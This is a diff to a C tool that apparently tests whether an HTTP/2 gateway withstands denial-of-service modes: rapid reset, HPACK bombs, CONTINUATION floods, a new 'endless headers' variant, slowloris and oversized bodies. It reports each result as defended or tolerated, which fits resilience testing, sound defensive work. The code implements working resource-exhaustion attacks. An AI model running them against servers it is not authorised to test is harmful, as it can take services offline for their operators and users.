@@ -26,10 +26,12 @@
  */
 #include <arpa/inet.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <netdb.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
 #include <poll.h>
+#include <signal.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
@@ -51,7 +53,8 @@
 #define HEADER_BLOCK_MAX 4096  /* an ordinary request's header block */
 #define BOMB_VALUE 4000        /* fits the default 4096-byte HPACK table with its name */
 #define BOMB_NAME "x-bomb"
-#define FLOOD_VALUE 100
+#define FLOOD_VALUE 100        /* continuation-flood: small headers, many frames */
+#define ENDLESS_VALUE 12000    /* endless-headers: big headers, few frames */
 #define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 #define DEFAULT_WINDOW 65535
 #define SLOW_STEP_MS 400       /* slowloris: one byte this often */
@@ -81,6 +84,8 @@ typedef struct cli {
     int last_status;
     int32_t last_status_stream;
     long rst_received;
+    int acks_owed;         /* SETTINGS ACKs to send at the next frame boundary */
+    bool mid_frame;        /* slowloris: a frame is half sent, nothing may come between */
     int64_t send_window;   /* connection-level, for big-body */
     int64_t stream_window; /* stream 1's */
     int64_t initial_window;
@@ -210,7 +215,7 @@ cli_free(cli *c)
     c->fd = -1;
 }
 
-/* TLS up with ALPN h2 (blocking handshake, bounded by SO_RCVTIMEO), then non-blocking. */
+/* TLS up with ALPN h2 (a blocking handshake, bounded by SO_RCVTIMEO), then non-blocking. */
 static int
 cli_connect(cli *c, const opts *o)
 {
@@ -234,9 +239,7 @@ cli_connect(cli *c, const opts *o)
         return -1;
     if (nghttp2_hd_deflate_new(&c->def, 4096) != 0 || nghttp2_hd_inflate_new(&c->inf) != 0)
         return -1;
-    tv.tv_sec = 0;
-    setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
-    return 0;
+    return fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
 }
 
 /* ---- input: frames from the server ---------------------------------------------------------- */
@@ -282,13 +285,10 @@ on_headers(cli *c, int32_t id, uint8_t flags, const uint8_t *p, size_t len)
     }
 }
 
-static int cli_send(cli *c, const uint8_t *p, size_t n, int64_t deadline);
-
+/* Answered later (cli_send): we may be in the middle of writing a frame right now. */
 static void
 on_settings(cli *c, uint8_t flags, const uint8_t *p, size_t len)
 {
-    uint8_t ack[FRAME_HDR];
-
     if (flags & NGHTTP2_FLAG_ACK)
         return;
     for (size_t i = 0; i + 6 <= len; i += 6) {
@@ -299,8 +299,7 @@ on_settings(cli *c, uint8_t flags, const uint8_t *p, size_t len)
             c->initial_window = v;
         }
     }
-    frame_hdr(ack, 0, NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0);
-    (void)cli_send(c, ack, sizeof ack, now_ms() + 1000);
+    c->acks_owed++;
 }
 
 static void
@@ -384,7 +383,7 @@ cli_pump(cli *c, int wait_ms)
 /* Write all of p, reading meanwhile so that the server's replies never block us both. -1 when
  * the connection is gone, -2 at the deadline. */
 static int
-cli_send(cli *c, const uint8_t *p, size_t n, int64_t deadline)
+send_raw(cli *c, const uint8_t *p, size_t n, int64_t deadline)
 {
     while (n > 0 && !c->closed) {
         ERR_clear_error();
@@ -405,6 +404,21 @@ cli_send(cli *c, const uint8_t *p, size_t n, int64_t deadline)
             cli_pump(c, 0);
     }
     return c->closed ? -1 : 0;
+}
+
+/* Whole frames (or, mid_frame, the next bytes of one); owed ACKs go first, between frames. */
+static int
+cli_send(cli *c, const uint8_t *p, size_t n, int64_t deadline)
+{
+    uint8_t ack[FRAME_HDR];
+
+    frame_hdr(ack, 0, NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0);
+    while (c->acks_owed > 0 && !c->mid_frame) {
+        c->acks_owed--;
+        if (send_raw(c, ack, sizeof ack, deadline) != 0)
+            return -1;
+    }
+    return send_raw(c, p, n, deadline);
 }
 
 static bool
@@ -510,8 +524,9 @@ mode_rapid_reset(cli *c, const opts *o, int64_t deadline)
 static int
 mode_continuation(cli *c, const opts *o, int64_t deadline, bool literal)
 {
-    uint8_t buf[FRAME_HDR + HEADER_BLOCK_MAX];
-    char value[FLOOD_VALUE], extra[64];
+    static uint8_t buf[FRAME_HDR + MAX_FRAME];
+    static char value[ENDLESS_VALUE];
+    char extra[64];
     long frames = 0;
     size_t n = request_block(c, o, "GET", buf + FRAME_HDR, HEADER_BLOCK_MAX, false);
 
@@ -522,7 +537,7 @@ mode_continuation(cli *c, const opts *o, int64_t deadline, bool literal)
     while (frames < o->count && !cut(c) && now_ms() < deadline) {
         char name[32];
         snprintf(name, sizeof name, literal ? "x-endless-%ld" : "x-flood", frames);
-        n = hpack_literal(buf + FRAME_HDR, 0x00, name, value, literal ? sizeof value : 1);
+        n = hpack_literal(buf + FRAME_HDR, 0x00, name, value, literal ? ENDLESS_VALUE : FLOOD_VALUE);
         frame_hdr(buf, n, NGHTTP2_CONTINUATION, 0, 1);
         if (cli_send(c, buf, FRAME_HDR + n, deadline) != 0)
             break;
@@ -624,6 +639,7 @@ mode_slowloris(cli *c, const opts *o, int64_t deadline)
     sent = FRAME_HDR + 1;
     if (cli_send(c, buf, sent, deadline) != 0)
         goto out;
+    c->mid_frame = true;
     for (; sent < FRAME_HDR + n - 1 && !cut(c) && now_ms() < deadline; sent++) {
         cli_pump(c, SLOW_STEP_MS);
         if (cut(c) || cli_send(c, buf + sent, 1, deadline) != 0)
@@ -684,9 +700,11 @@ out:
         at_answer = sent;
     snprintf(extra, sizeof extra, "status=%d declared=%lld sent=%lld sent_at_answer=%lld rst=%ld",
              c->status[0], o->size, sent, at_answer, c->rst_received);
-    printf("mode=%s result=%s %s\n", o->mode,
-           c->status[0] == 413 && sent < o->size ? "refused" : "tolerated", extra);
-    return c->status[0] == 413 && sent < o->size ? EXIT_DEFENDED : EXIT_TOLERATED;
+    /* Defended: the 413 came before the body was all sent, i.e. the gateway did not wait to
+     * read it; what it drops afterwards is bounded (then the stream is reset: rst=1). */
+    bool defended = c->status[0] == 413 && at_answer >= 0 && at_answer < o->size;
+    printf("mode=%s result=%s %s\n", o->mode, defended ? "refused" : "tolerated", extra);
+    return defended ? EXIT_DEFENDED : EXIT_TOLERATED;
 }
 
 static int
@@ -896,5 +914,6 @@ main(int argc, char **argv)
         return EXIT_SETUP;
     }
     setvbuf(stdout, NULL, _IOLBF, 0);
+    signal(SIGPIPE, SIG_IGN); /* a server that hung up is a result, not a crash */
     return run(&o);
 }
